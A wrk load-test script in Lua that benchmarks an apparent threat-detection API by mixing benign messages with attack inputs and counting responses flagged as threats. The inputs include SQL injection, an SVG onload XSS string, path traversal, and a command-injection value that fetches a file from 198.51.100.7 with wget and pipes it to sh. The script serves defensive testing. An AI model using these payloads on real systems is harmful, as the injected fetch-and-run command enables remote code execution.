-- wrk script: POST /api/v1/analyze, half benign and half attacks, each attack distinct (a counter in it), so every
-- attack is a new threat to store. ATTACKS=repeat sends the same four attacks over and over instead, as a scanner
-- flood does; ATTACKS=none sends only the benign half. RATE=N with CONNS=C paces each connection so that all C
-- together send about N requests a second (wrk's delay() hook; without RATE, as fast as answers come). The bearer token comes from the environment (INFSEC_TOKEN), never from this file.
local token = os.getenv("INFSEC_TOKEN")
local repeat_attacks = os.getenv("ATTACKS") == "repeat"
local benign_only = os.getenv("ATTACKS") == "none"
local rate = tonumber(os.getenv("RATE") or "")
local pause_ms = rate and (1000 * tonumber(os.getenv("CONNS") or "1") / rate) or nil
if pause_ms then
  function delay() return pause_ms end
end
local inputs = {
  'Please ship order %d to 12 Baker Street by Friday',
  'x\\u0027 OR \\u0027k%d\\u0027=\\u0027k%d',
  'Meeting notes for sprint %d: review the release checklist',
  '<svg/onload=confirm(%d)>',
  'Invoice %d attached, total EUR 120.50 incl. VAT',
  'a.txt; wget http://198.51.100.7/p%d -O- | sh',
  'Can we move the call %d to Tuesday afternoon?',
  'page=....//....//....//var/log/app%d.log',
}
local threads = {}
function setup(thread) table.insert(threads, thread) end
function init(args) idx = 0; counter = 0; n200 = 0; nother = 0; threats = 0 end
function request()
  idx = idx % #inputs + 1
  if benign_only and idx % 2 == 0 then idx = idx % #inputs + 1 end
  counter = counter + 1
  local n = counter
  if repeat_attacks and idx % 2 == 0 then n = 1 end
  local body = '{"input":"' .. string.format(inputs[idx], n, n) .. '"}'
  return wrk.format("POST", "/api/v1/analyze", { ["Content-Type"] = "application/json", ["Authorization"] = "Bearer " .. token }, body)
end
function response(status, headers, body)
  if status == 200 then
    n200 = n200 + 1
    if string.find(body, '"threat":true', 1, true) then threats = threats + 1 end
  else nother = nother + 1 end
end
function done(summary, latency, requests)
  local a, c, t = 0, 0, 0
  for _, th in ipairs(threads) do a = a + th:get("n200"); c = c + th:get("nother"); t = t + th:get("threats") end
  io.write(string.format("statuses: 200=%d other=%d threats=%d\n", a, c, t))
  io.write(string.format("RESULT req/s=%.0f p50=%.2fms p90=%.2fms p99=%.2fms max=%.2fms\n",
    summary.requests / (summary.duration / 1e6), latency:percentile(50) / 1000,
    latency:percentile(90) / 1000, latency:percentile(99) / 1000, latency.max / 1000))
end
